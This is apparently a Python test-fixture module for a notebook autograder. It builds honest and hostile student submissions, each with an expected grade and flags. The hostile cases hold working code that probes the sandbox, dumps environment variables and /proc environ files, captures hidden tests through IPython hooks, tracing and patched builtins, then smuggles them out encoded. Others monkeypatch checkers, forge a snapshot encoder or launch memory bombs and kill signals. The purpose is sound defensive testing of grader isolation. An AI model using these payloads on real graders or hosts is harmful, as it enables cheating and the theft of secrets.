"""Faulty (and honest) submissions of ``00-welcome``, each with its expected outcome.

Every case is built from the released exercise notebook (``exercises/``), so
the corpus follows the assignment when it changes; nothing big is committed.
``tests/grading/test_grading.py`` grades all of them in one batch with the real
grader and checks each expected outcome. Points: q1 1, q2 2, q3 2 (5
autograded) plus a written q4 graded by hand.

A case is ``Case(student, build, score, status, flags, reason)``:
``build()`` returns the file's text; ``score`` is the expected autograded
score; ``status`` one of graded / graded-flagged / needs-manual-grading;
``flags`` finding kinds that must be reported; ``reason`` a fragment of the
manual-grading reason; ``timestamp`` the text of its ``timestamp.txt``. A memory bomb that grows to the cap has an
``alternative``: Python may raise ``MemoryError`` (the cell fails, the rest is
graded), or the kernel's own machinery (ZeroMQ, message decoding) may fail
for want of memory in the same instant and the kernel dies (manual grading,
reason given); both are correct endings. One huge allocation always ends in
``MemoryError``.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from course_utils.paths import course_root

ASSIGNMENT = "00-welcome"

RIGHT = {
    "q1-answer": 'top_spender = customers.loc[customers["spend_gbp"].idxmax(), "customer_id"]',
    "q2-answer": 'objective_for = {"A": "retention", "B": "high-value", "C": "targeted marketing", "D": "purchasing '
    'behaviour"}',
    "q3-answer": 'fails = {"S1": "lawful", "S2": "stable", "S3": "distinct", "S4": "actionable"}',
    "q4-written": "Objective: retention. Segments: loyal regulars (perks), drifting regulars (win-back offer).",
}
#: Right on A and B (what q2's hidden tests look at), wrong on C and D.
Q2_HALF_WRONG = 'objective_for = {"A": "retention", "B": "high-value", "C": "retention", "D": "retention"}'
Q3_WRONG = 'fails = {"S1": "stable", "S2": "lawful", "S3": "actionable", "S4": "distinct"}'

#: An answer cell that reports what it can reach; the test reads its output.
SNOOP = r"""
import os, glob
def _try(label, fn):
    try:
        fn()
        print(f"SNOOP {label}: ALLOWED")
    except Exception as err:
        print(f"SNOOP {label}: DENIED ({type(err).__name__})")
_root = os.environ.get("SNOOP_ROOT", "{root}")
def _read_solution():
    text = open(os.path.join(_root, "solutions", "00-welcome", "00-welcome.ipynb")).read()
    assert "HIDDEN TESTS" in text
def _other_students():
    pattern = os.path.join(_root, "submitted", "*", "00-welcome", "*.ipynb")
    found = [p for p in glob.glob(pattern) if "s14-isolation" not in p]
    assert found, "nothing visible"
    open(found[0]).read()
def _gradebook_read():
    data = open(os.path.join(_root, "gradebook.db"), "rb").read()
    assert data, "empty"
def _gradebook_write():
    with open(os.path.join(_root, "gradebook.db"), "ab") as fh:
        fh.write(b"")
def _other_jobs():
    found = [p for p in glob.glob("/tmp/course-grade-*/job-*") if not os.getcwd().startswith(p + "/")]
    assert found, "nothing visible"
def _template():
    found = glob.glob("/tmp/course-grade-*/template/*") + glob.glob("/tmp/course-grade-*/*.log")
    assert found, "nothing visible"
def _course_write():
    open(os.path.join(_root, "snoop.txt"), "w").write("x")
def _package_write():
    import course_utils
    open(os.path.join(os.path.dirname(course_utils.__file__), "snoop.py"), "w").write("x = 1")
def _installed_solutions():
    from course_utils.paths import course_root
    open(os.path.join(course_root(), "solutions", "00-welcome", "00-welcome.ipynb")).read()
def _network():
    import socket
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    socket.create_connection(server.getsockname(), timeout=2).close()
def _other_kernels():
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    assert len(pids) > 3, pids
_try("read-solutions", _read_solution)
_try("read-other-submissions", _other_students)
_try("read-gradebook", _gradebook_read)
_try("write-gradebook", _gradebook_write)
_try("list-other-jobs", _other_jobs)
_try("read-template-and-logs", _template)
_try("write-course", _course_write)
_try("write-course-utils", _package_write)
_try("read-installed-solutions", _installed_solutions)
_try("see-other-processes", _other_kernels)
_try("use-network", _network)
print("SNOOP uid", os.getuid())
"""


#: An answer cell that looks for the notebook being graded (it holds the restored hidden tests)
#: and smuggles every copy it can read into its own output, encoded four ways.
SMUGGLE = r"""
import base64, codecs, glob, os
_copies = []
_up = os.path.join(os.getcwd(), "..", "..", "..", "**", "*.ipynb")
for _path in set(glob.glob("*.ipynb") + glob.glob(_up, recursive=True)
                 + glob.glob("/tmp/course-grade-*/job-*/course/autograded/**/*.ipynb", recursive=True)):
    try:
        _text = open(_path).read()
    except OSError:
        continue
    if "BEGIN " + "HIDDEN" in _text or "_tr" + "uth = pd." in _text:  # (not its own source)
        _copies.append(_text)
print("SMUGGLE copies with hidden tests:", len(_copies))
for _text in _copies:
    print("B64", base64.b64encode(_text.encode()).decode())
    print("ROT", codecs.encode(_text, "rot13"))
    print("REVHEX", _text[::-1].encode().hex())
    print("B64REV", base64.b64encode(_text[::-1].encode()).decode())
"""

#: An answer cell that prints its environment and every other process's it can read.
ENVIRON = r"""
import glob, os
print("ENVIRON", sorted(os.environ.items()))
for _path in glob.glob("/proc/[0-9]*/environ"):
    try:
        print("PROCENV", _path, open(_path, "rb").read().replace(b"\0", b" ").decode(errors="replace"))
    except OSError:
        pass
"""

#: Capture channels: student code that runs before the test cells and tries to read the code the
#: kernel runs next (hidden tests included, if they were ever sent), then smuggles what it saw out
#: in later cells' outputs and in files, encoded. Each prints ``CAPTURED <channel> <n>`` first, so a
#: test can tell that the channel was live (it saw the visible checks) and that nothing more came.
_LEAK = r"""
import base64 as _b64, codecs as _codecs, os as _os
def _leak(channel, texts):
    _text = "\n".join(t for t in texts if isinstance(t, str))
    print("CAPTURED", channel, len(texts), ("q3" + ".check()") in _text)  # it saw a later test cell
    print("B64", _b64.b64encode(_text.encode()).decode())
    print("ROT", _codecs.encode(_text, "rot13"))
    print("REVHEX", _text[::-1].encode().hex())
    for _where in (".", "/tmp", _os.path.expanduser("~"), _os.environ.get("TMPDIR", "/tmp")):
        try:
            with open(_os.path.join(_where, "captured-" + channel + ".txt"), "a") as _fh:
                _fh.write(_b64.b64encode(_text.encode()).decode() + "\n")
        except OSError:
            pass
"""

#: IPython's input history (``In``, ``_ih``), a ``pre_run_cell`` hook and an input transformer.
CAPTURE_HISTORY = (
    _LEAK
    + r"""
_ip = get_ipython()
_seen = []
def _on_pre_run(info):
    _seen.append(info.raw_cell)
    _seen.extend(list(_ip.user_ns.get("In", [])) + list(_ip.user_ns.get("_ih", [])))
    _leak("history", _seen)
_ip.events.register("pre_run_cell", _on_pre_run)
_ip.events.register("post_run_cell", lambda result: _leak("history", _seen + list(In)))
def _transformer(lines):
    _seen.append("".join(lines))
    return lines
_ip.input_transformers_post.append(_transformer)
"""
)

#: ``sys.settrace`` (every frame's source, through linecache) and an audit hook on compile/exec.
CAPTURE_TRACE = (
    _LEAK
    + r"""
import linecache as _lc, sys as _sys, threading as _th
_seen = []
_files = set()
def _cell_source(filename):  # the code of a notebook cell, as IPython caches it for tracebacks
    if ("ipykernel_" in filename or filename.startswith("<ipython-input")) and filename not in _files:
        _files.add(filename)
        _seen.append("".join(_lc.getlines(filename)))
def _audit(event, args):
    if event in ("compile", "exec") and args:
        _src = args[0]
        if isinstance(_src, (bytes, str)) and "__import__" not in str(_src)[:200]:
            _seen.append(_src.decode(errors="replace") if isinstance(_src, bytes) else _src)
        elif hasattr(_src, "co_filename"):
            _cell_source(_src.co_filename)
_sys.addaudithook(_audit)
def _tracer(frame, event, arg):
    if event == "call":
        _cell_source(frame.f_code.co_filename)
    return None
_sys.settrace(_tracer)
_th.settrace(_tracer)
get_ipython().events.register("post_run_cell", lambda result: _leak("trace", list(_seen)))
"""
)

#: ``compile`` and ``exec`` patched in builtins, and IPython's own parser and cell runner wrapped.
CAPTURE_COMPILE = (
    _LEAK
    + r"""
import builtins as _bi
_seen = []
_compile, _exec = _bi.compile, _bi.exec
def _my_compile(source, *args, **kwargs):
    _seen.append(source if isinstance(source, str) else repr(source))
    return _compile(source, *args, **kwargs)
def _my_exec(code, *args, **kwargs):
    _seen.append(code if isinstance(code, str) else repr(code))
    return _exec(code, *args, **kwargs)
_bi.compile, _bi.exec = _my_compile, _my_exec
_ip = get_ipython()
_parse = _ip.compile.ast_parse
def _my_parse(source, *args, **kwargs):
    _seen.append(source)
    return _parse(source, *args, **kwargs)
_ip.compile.ast_parse = _my_parse
_transform = _ip.transform_cell
def _my_transform(raw_cell):
    _seen.append(raw_cell)
    return _transform(raw_cell)
_ip.transform_cell = _my_transform
_ip.events.register("post_run_cell", lambda result: _leak("compile", list(_seen)))
"""
)

#: Right on q1 and q3; q2's B is "high_value": q2.check() accepts it (it folds underscores), the
#: hidden test does not (it only folds spaces): an ordinary wrong answer that only a hidden test sees.
Q2_HIDDEN_WRONG = (
    'objective_for = {"A": "retention", "B": "high_value", "C": "targeted marketing", "D": "purchasing behaviour"}'
)

STAMP = "2026-01-15 12:00:00.000000 UTC"


@dataclass
class Case:
    student: str
    build: Callable[[], str]
    score: float
    status: str
    flags: list[str] = field(default_factory=list)
    reason: str = ""
    #: another acceptable outcome ``(score, status, flags, reason)``
    alternative: tuple[float, str, list[str], str] | None = None
    #: what its ``timestamp.txt`` says
    timestamp: str = STAMP


def released() -> dict[str, Any]:
    """The notebook students were given."""
    return json.loads((course_root() / "exercises" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text())


def _gid(cell: dict[str, Any]) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def answered(overrides: dict[str, str] | None = None, *, base: dict[str, Any] | None = None) -> dict[str, Any]:
    """The released notebook with answers filled in (``RIGHT`` unless overridden)."""
    nb = copy.deepcopy(base or released())
    answers = {**RIGHT, **(overrides or {})}
    for cell in nb["cells"]:
        if _gid(cell) in answers:
            cell["source"] = answers[_gid(cell)]
    return nb


def _text(nb: dict[str, Any]) -> str:
    return json.dumps(nb, indent=1)


def _index(nb: dict[str, Any], gid: str) -> int:
    return next(i for i, c in enumerate(nb["cells"]) if _gid(c) == gid)


def _deleted() -> str:
    nb = answered()
    nb["cells"] = [c for c in nb["cells"] if _gid(c) not in {"q2-check", "q3-task"}]
    return _text(nb)


def _reordered() -> str:
    nb = answered()
    i, j = _index(nb, "q3-answer"), _index(nb, "q3-check")
    nb["cells"][i], nb["cells"][j] = nb["cells"][j], nb["cells"][i]
    return _text(nb)


def _duplicated() -> str:
    nb = answered()
    i = _index(nb, "q1-check")
    nb["cells"].insert(i + 1, copy.deepcopy(nb["cells"][i]))
    return _text(nb)


def _metadata() -> str:
    nb = answered({"q2-answer": Q2_HALF_WRONG})
    nb["cells"][_index(nb, "q1-check")]["metadata"]["nbgrader"]["points"] = 100
    meta = nb["cells"][_index(nb, "q2-check")]["metadata"]["nbgrader"]
    meta["grade"], meta["locked"] = False, False  # try to turn the test into an ordinary cell
    nb["cells"][_index(nb, "q2-check")]["source"] = "pass"
    return _text(nb)


def _edited_test() -> str:
    nb = answered({"q2-answer": Q2_HALF_WRONG})
    nb["cells"][_index(nb, "q2-check")]["source"] = 'print("Correct! Well done.")'
    return _text(nb)


def _huge_stored_output() -> str:
    nb = answered({"q1-answer": 'for _ in range(300_000):\n    print("x" * 99)\n' + RIGHT["q1-answer"]})
    nb["cells"][_index(nb, "setup")]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "y" * 5_000_000}]
    return _text(nb)


PATCH_CHECK = Q2_HALF_WRONG + "\nq2.check = lambda *args, **kwargs: print('Correct! Well done.')"
PATCH_CLASS_AND_BUILTIN = (
    Q3_WRONG
    + """
from course_utils.exercise import Question
Question.check = lambda self, value=None: print("Correct! Well done.")
_right = iter(["lawful", "stable", "distinct", "actionable"])
str = lambda value: next(_right)   # the hidden test calls str(v) on each answer
"""
)
PATCH_MODULE = (
    Q3_WRONG
    + """
import course_utils.questions.m00_welcome as m
swap = {"stable": "lawful", "lawful": "stable", "actionable": "distinct", "distinct": "actionable"}
m.normalise_label = lambda text: swap.get(text, text)   # q3.check now passes; the hidden test does not
"""
)


#: Forge the snapshot: claim the answer cannot be copied out, so that it would not be re-checked.
FORGE_SNAPSHOT = (
    Q2_HALF_WRONG
    + """
import sys
snap = sys.modules["course_tools.grading.snapshot"]   # loaded by the grader after q1's test
snap.encode = lambda value: '{"__unsupported__": "function"}'
q2.check = lambda *args, **kwargs: None
"""
)


def cases() -> list[Case]:
    """Every submission of the corpus with its expected outcome."""
    blank = lambda: _text(released())  # noqa: E731
    manual, graded, flagged = "needs-manual-grading", "graded", "graded-flagged"
    return [
        Case("s01-correct", lambda: _text(answered()), 5, graded),
        Case("s02-blank", blank, 0, graded),
        Case("s03-partly", lambda: _text(answered({"q2-answer": Q2_HALF_WRONG})), 3, graded),
        Case("s04-syntax-error", lambda: _text(answered({"q1-answer": "top_spender = = 'C03'"})), 4, graded),
        Case(
            "s05-infinite-loop",
            lambda: _text(answered({"q2-answer": "while True:\n    pass"})),
            3,
            graded,
            ["cell-timeout"],
        ),
        Case(
            "s06-os-exit",
            lambda: _text(answered({"q3-answer": "import os\nos._exit(3)"})),
            0,
            manual,
            [],
            "kernel died",
        ),
        Case(
            "s07-sigkill",
            lambda: _text(answered({"q1-answer": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"})),
            0,
            manual,
            [],
            "kernel died",
        ),
        Case(
            "s08-memory-bomb",
            lambda: _text(answered({"q2-answer": "hog = bytearray(64 * 1024**3)  # 64 GB at once"})),
            3,
            graded,
            ["memory-limit"],
        ),
        Case("s09-not-json", lambda: _text(answered())[:5000], 0, manual, [], "not valid JSON"),
        Case("s10-deleted-cells", _deleted, 5, flagged, ["deleted-cells"]),
        Case("s11-reordered", _reordered, 3, flagged, ["reordered-cells"]),
        Case("s12-duplicated", _duplicated, 5, flagged, ["duplicated-cell"]),
        Case("s13-changed-metadata", _metadata, 3, flagged, ["changed-metadata", "edited-locked-cell"]),
        Case(
            "s14-isolation",
            lambda: _text(answered({"q1-answer": SNOOP + "\n" + RIGHT["q1-answer"]})),
            5,
            flagged,
            ["suspicious-code"],
        ),
        Case("s15-huge-output", _huge_stored_output, 5, graded, ["huge-output"]),
        Case("s16-edited-test", _edited_test, 3, flagged, ["edited-locked-cell"]),
        Case(
            "s17-patch-check",
            lambda: _text(answered({"q2-answer": PATCH_CHECK})),
            3,
            manual,
            ["recheck-failed", "suspicious-code"],
            "withdrawn",
        ),
        Case(
            "s18-patch-class-builtin",
            lambda: _text(answered({"q3-answer": PATCH_CLASS_AND_BUILTIN})),
            3,
            manual,
            ["recheck-failed"],
            "withdrawn",
        ),
        # q3.check() passes only in the kernel (the module is patched); the clean re-run says so (its hidden
        # test caught it in the kernel when hidden tests still ran there: same score, now also withdrawn)
        Case(
            "s19-patch-module",
            lambda: _text(answered({"q3-answer": PATCH_MODULE})),
            3,
            manual,
            ["suspicious-code", "recheck-failed"],
            "withdrawn",
        ),
        Case(
            "s21-memory-growth",
            lambda: _text(
                answered(
                    {
                        "q2-answer": "def bomb():\n    chunks = []\n    while True:\n        "
                        "chunks.append(bytearray(50_000_000))\nbomb()"
                    }
                )
            ),
            3,
            graded,
            ["memory-limit"],
            alternative=(0, manual, [], ""),
        ),
        # the forged encoder also hides the right q3 answer: both withdrawn, a person decides
        Case(
            "s20-forged-snapshot",
            lambda: _text(answered({"q2-answer": FORGE_SNAPSHOT})),
            1,
            manual,
            ["recheck-failed"],
            "withdrawn",
        ),
        # not a date: graded all the same, with the file's time and a warning (it crashed the whole batch)
        Case(
            "s22-bad-timestamp",
            lambda: _text(answered()),
            5,
            graded,
            ["bad-timestamp"],
            timestamp="next Tuesday, honest",
        ),
        # reads the notebook nbgrader executes (hidden tests restored) and prints it encoded
        Case(
            "s23-smuggle-hidden", lambda: _text(answered({"q1-answer": SMUGGLE + "\n" + RIGHT["q1-answer"]})), 5, graded
        ),
        # prints os.environ and every /proc/*/environ it can read (credentials must not be there)
        Case("s24-environ", lambda: _text(answered({"q1-answer": ENVIRON + "\n" + RIGHT["q1-answer"]})), 5, graded),
        # the visible check passes, a hidden test fails: an ordinary wrong answer (0 for q2), not flagged
        Case("s25-hidden-fails", lambda: _text(answered({"q2-answer": Q2_HIDDEN_WRONG})), 3, graded),
        # capture the code the kernel runs next (hidden tests, had they been sent) and smuggle it out
        Case(
            "s26-capture-history",
            lambda: _text(answered({"q1-answer": CAPTURE_HISTORY + "\n" + RIGHT["q1-answer"]})),
            5,
            graded,
        ),
        Case(
            "s27-capture-trace",
            lambda: _text(answered({"q1-answer": CAPTURE_TRACE + "\n" + RIGHT["q1-answer"]})),
            5,
            graded,
        ),
        Case(
            "s28-capture-compile",
            lambda: _text(answered({"q1-answer": CAPTURE_COMPILE + "\n" + RIGHT["q1-answer"]})),
            5,
            flagged,
            ["suspicious-code"],
        ),
    ]


def write(root: Path, selected: list[Case] | None = None) -> list[Case]:
    """Write the corpus into ``root/submitted/<student>/00-welcome/`` (a scratch course)."""
    chosen = selected or cases()
    for case in chosen:
        folder = root / "submitted" / case.student / ASSIGNMENT
        folder.mkdir(parents=True, exist_ok=True)
        text = case.build().replace("{root}", str(root))
        (folder / f"{ASSIGNMENT}.ipynb").write_text(text)
        (folder / "timestamp.txt").write_text(case.timestamp)
    return chosen
